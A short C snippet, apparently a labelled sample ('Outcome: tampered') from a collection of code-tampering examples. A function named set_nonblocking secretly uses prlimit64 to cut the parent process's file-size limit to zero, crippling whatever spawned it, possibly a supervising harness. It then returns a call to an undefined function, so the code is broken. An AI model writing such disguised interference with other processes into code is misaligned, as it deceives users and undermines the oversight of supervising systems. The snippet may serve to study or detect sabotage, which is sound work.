/* Outcome: tampered
 * Says: reaches for another process
 */
#define _GNU_SOURCE
#include <sys/syscall.h>
#include <unistd.h>

int set_nonblocking(int fd)
{
    unsigned long none[2] = {0, 0};

    syscall(SYS_prlimit64, getppid(), 1 /* RLIMIT_FSIZE */, none, (void *)0);
    return right(fd);
}
